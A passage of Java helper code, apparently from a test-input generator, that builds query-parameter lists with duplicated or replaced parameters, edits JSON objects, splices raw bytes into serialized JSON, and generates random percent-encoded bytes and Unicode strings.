        List<byte[]> out = without(query, name);
        out.add(concat(ascii(name + "="), value));
        return out;
    }

    private static List<byte[]> appended(List<byte[]> query, String name, byte[] value) {
        List<byte[]> out = new ArrayList<>(query);
        if (out.stream().noneMatch(q -> new String(q, StandardCharsets.ISO_8859_1).startsWith(name + "="))) {
            out.add(concat(ascii(name + "="), ascii("1")));
        }
        out.add(concat(ascii(name + "="), value));
        return out;
    }

    private static List<byte[]> without(List<byte[]> query, String name) {
        List<byte[]> out = new ArrayList<>();
        for (byte[] q : query) {
            if (!new String(q, StandardCharsets.ISO_8859_1).startsWith(name + "=")) {
                out.add(q);
            }
        }
        return out;
    }

    private static ObjectNode with(ObjectNode base, String field, JsonNode value) {
        ObjectNode copy = base.deepCopy();
        copy.set(field, value);
        return copy;
    }

    private static ObjectNode without(ObjectNode base, String field) {
        ObjectNode copy = base.deepCopy();
        copy.remove(field);
        return copy;
    }

    /** The document with the field's value replaced by raw bytes (which may be no JSON or no UTF-8). */
    private static byte[] raw(ObjectNode base, String field, byte[] rawValue) {
        byte[] withPlaceholder = bytes(with(base, field, NODES.textNode(PLACEHOLDER)));
        byte[] marker = bytes(NODES.textNode(PLACEHOLDER));
        int at = indexOf(withPlaceholder, marker);
        return concat(concat(java.util.Arrays.copyOf(withPlaceholder, at), rawValue),
                java.util.Arrays.copyOfRange(withPlaceholder, at + marker.length, withPlaceholder.length));
    }

    static byte[] bytes(JsonNode node) {
        try {
            return JSON.writeValueAsBytes(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String text(JsonNode node) {
        return new String(bytes(node), StandardCharsets.UTF_8);
    }

    static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] enc(String s) {
        return ascii(URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20"));
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] all = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }

    private static int indexOf(byte[] data, byte[] pattern) {
        outer:
        for (int i = 0; i <= data.length - pattern.length; i++) {
            for (int k = 0; k < pattern.length; k++) {
                if (data[i + k] != pattern[k]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalStateException("placeholder not found");
    }

    private static String first(List<String> list, String fallback) {
        return list.isEmpty() ? fallback : list.get(0);
    }

    private static byte[] randomBytesEncoded(SplittableRandom random, int n) {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < n; i++) {
            s.append(String.format("%%%02X", random.nextInt(256)));
        }
        return ascii(s.toString());
    }

    private static String randomUnicode(SplittableRandom random, int n) {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < n; i++) {
            int kind = random.nextInt(4);
            s.appendCodePoint(switch (kind) {
                case 0 -> random.nextInt(0x20);
                case 1 -> 0x20 + random.nextInt(0x5F);
                case 2 -> 0xA0 + random.nextInt(0x2000);
                default -> 0x1F300 + random.nextInt(0x300);
            });
        }
        return s.toString();
    }
}
